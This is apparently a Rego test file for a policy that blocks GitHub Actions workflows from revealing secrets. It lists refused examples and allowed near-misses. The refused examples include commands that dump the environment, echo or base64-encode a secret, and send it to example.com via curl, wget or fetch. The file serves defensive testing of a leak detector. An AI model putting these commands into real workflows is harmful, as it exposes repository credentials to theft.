# What secrets_are_not_shown refuses, form by form, and its nearest relatives that it lets pass.
package github.secrets_are_not_shown_test

import data.github.secrets_are_not_shown

refused := [
	`on: push
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          env
        env:
          K: ${{ secrets.K }}
`,
	`on: push
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          env | sort
        env:
          K: ${{ secrets.K }}
`,
	`on: push
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          printenv
        env:
          K: ${{ secrets.K }}
`,
	`on: push
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          export -p
        env:
          K: ${{ secrets.K }}
`,
	`on: push
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          set -x
          y
        env:
          K: ${{ secrets.K }}
`,
	`on: push
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          cat /proc/self/environ
        env:
          K: ${{ secrets.K }}
`,
	`on: push
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          console.log(process.env)
        env:
          K: ${{ secrets.K }}
`,
	`on: push
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          echo "$K"
        env:
          K: ${{ secrets.K }}
`,
	`on: push
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          printf %s "${K}" | base64
        env:
          K: ${{ secrets.K }}
`,
	`on: push
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          echo $GITHUB_TOKEN
        env:
          K: ${{ secrets.K }}
`,
	`on: push
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          cat <<<"$K"
        env:
          K: ${{ secrets.K }}
`,
	`on: push
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          curl -d "$K" https://example.com
        env:
          K: ${{ secrets.K }}
`,
	`on: push
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          wget "https://example.com/?$K"
        env:
          K: ${{ secrets.K }}
`,
	"on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: |\n          fetch(`https://example.com/${process.env.K}`)\n        env:\n          K: ${{ secrets.K }}\n",
	`on: push
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          x
        env:
          ACTIONS_STEP_DEBUG: true
`,
	`on: push
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          x
        env:
          GIT_TRACE: 1
`,
]

allowed := [
	`on: push
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          echo "$K" | docker login --password-stdin
        env:
          K: ${{ secrets.K }}
`,
	`on: push
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          curl -H "Authorization: Bearer $K" https://api.github.com/user
        env:
          K: ${{ secrets.K }}
`,
	`on: push
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          echo "$OTHER"
        env:
          K: ${{ secrets.K }}
`,
	`on: push
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          npm publish
        env:
          K: ${{ secrets.K }}
`,
	`on: push
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          env A=b npm test
        env:
          K: ${{ secrets.K }}
`,
	`on: push
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          set -euo pipefail
        env:
          K: ${{ secrets.K }}
`,
]

test_refuses_every_form if {
	every text in refused {
		count(secrets_are_not_shown.deny) > 0 with input as {"text": text}
	}
}

test_allows_its_neighbours if {
	every text in allowed {
		count(secrets_are_not_shown.deny) == 0 with input as {"text": text}
	}
}
